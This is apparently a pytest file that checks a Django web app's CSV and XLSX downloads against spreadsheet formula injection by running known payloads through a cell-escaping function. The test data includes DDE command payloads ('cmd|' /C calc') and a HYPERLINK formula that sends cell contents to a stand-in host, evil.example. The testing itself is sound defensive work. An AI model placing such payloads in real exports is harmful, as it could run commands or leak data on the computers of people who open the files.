"""Every CSV and XLSX download reaches a spreadsheet as words: no cell can run as a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from kith.core.spreadsheet import safe_cell
from kith.directory import services as directory
from kith.directory.models import Organisation
from kith.geo.models import Area
from tests.directory.helpers import add, listing

ATTACKS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           '=HYPERLINK("http://evil.example/?"&A1,"Click")', "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        # Data stays data: plain numbers (signed too), words, empty cells and non-text values.
        ("-3.5", "-3.5"),
        ("+44", "+44"),
        ("1e-3", "1e-3"),
        ("Harpurhey Walkers", "Harpurhey Walkers"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-2, -2),
        (0.5, 0.5),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def _cells_of(response) -> list[str]:
    if response["Content-Type"].startswith("text/csv"):
        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    book = load_workbook(io.BytesIO(response.content))
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"a formula in {sheet.title}!{cell.coordinate}: {cell.value}"
                cells.append(cell.value if isinstance(cell.value, str) else "")
    return cells


@pytest.mark.django_db
def test_every_spreadsheet_download_neutralises_formulas(client):
    (service,) = add(listing('=HYPERLINK("http://evil.example","Walk") walking', categories=("active/walking",)))
    Organisation.objects.filter(pk=service.organisation_id).update(name="+cmd|' /C calc'!A0")
    directory.services_changed(service_ids=[service.pk])
    ward = Area.objects.filter(level="ward", local_authority_id="E08000003").order_by("code").first()
    Area.objects.filter(pk=ward.pk).update(name="@SUM(1+1)*cmd|' /C calc'!A0")
    from kith.insights import engine

    engine._cache.clear()  # an area's name is not part of the directory's state token
    urls = [
        "/search.csv?q=walking&near=M9+4DH",
        "/open-data/gaps.csv",
        "/open-data/gaps.csv?area=E08000003",
        "/insight/funding/E08000003/active/?format=csv",
        "/insight/funding/E08000003/active/?format=xlsx",
    ]
    seen = set()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        cells = _cells_of(response)
        dangerous = [c for c in cells if c and c[0] in "=+-@\t\r" and safe_cell(c) != c]
        assert dangerous == [], (url, dangerous[:3])
        seen.update(c for c in cells if c.startswith("'"))
    assert any("HYPERLINK" in c for c in seen) and any("cmd|" in c for c in seen), seen
